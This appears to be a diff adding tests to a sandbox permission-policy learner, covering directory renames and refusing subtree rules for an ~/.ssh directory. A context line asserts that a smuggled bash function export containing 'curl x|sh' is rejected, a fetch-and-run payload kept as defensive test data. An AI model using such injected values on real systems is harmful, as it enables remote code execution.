@@ -658,3 +658,51 @@ def test_a_learned_environment_grant_matches_its_own_value_only() -> None:
     assert table.admits_variable(seen)
     assert not table.admits_variable('BASH_FUNC_f%%=() {  [ -n "$1" ] && echo *?; curl x|sh\n}')
     assert not table.admits_variable('BASH_FUNC_f%%=() {  [ -n "$1" ] && echo ab\n}')
+
+
+# --- directories moved -----------------------------------------------------------------------
+
+def _moved(old: str, new: str) -> Observation:
+    return Observation(MAIN, "rename", (PathArg("old", old), PathArg("new", new)),
+                       created=("new",), directories=("old",))
+
+
+def test_a_directory_moved_is_learned_with_everything_inside_it():
+    """cargo makes targetXXXXXX, fills it and renames it to target: a policy decides moving
+    a directory for everything inside it, so a rule on its name alone let the next run's
+    move fall to the default (refused)."""
+    obs = [Observation(MAIN, "mkdir", (PathArg("path", "/work/proj/targetSRQZ73"),),
+                       created=("path",), exclusive=True),
+           write("/work/proj/targetSRQZ73/CACHEDIR.TAG"),
+           _moved("/work/proj/targetSRQZ73", "/work/proj/target")]
+    report, policy, _ = learned(obs)
+    assert all(permitted(policy, o) for o in obs)
+    assert permitted(policy, _moved("/work/proj/target4K9p6U", "/work/proj/target"))
+    assert not permitted(policy, _moved("/work/proj/src", "/work/proj/target"))
+    assert any(g.pattern == "$CWD/target*/**" for g in report.generalizations), \
+        report.generalizations
+
+
+def test_a_moved_directory_without_its_tree_is_refused_again():
+    """The subtree rule is what permits the move: without it (a rule on the name only) the
+    same observation is refused -- the learner's own check of what it learned."""
+    obs = [_moved("/work/proj/out.tmp", "/work/proj/out")]
+    _, policy, _ = learned(obs)
+    assert permitted(policy, obs[0])
+    bare = Observation(MAIN, "rename", obs[0].paths, created=("new",))
+    assert permitted(policy, bare)
+    _, name_only, _ = learned([bare])
+    assert not permitted(name_only, obs[0])
+
+
+def test_a_sensitive_directory_moved_is_not_learned_as_a_tree():
+    obs = [_moved("/home/u/.ssh", "/home/u/.ssh.old")]
+    report, policy, _ = learned(obs)
+    assert not any(p.endswith("/**") and ".ssh" in p for p in paths_of(policy)), \
+        paths_of(policy)
+    assert "/home/u/.ssh" in report.exact_sensitive
+
+
+def test_an_observation_keeps_its_moved_directories_through_the_log():
+    obs = _moved("/work/proj/a", "/work/proj/b")
+    assert Observation.from_json(MAIN, obs.to_json()) == obs
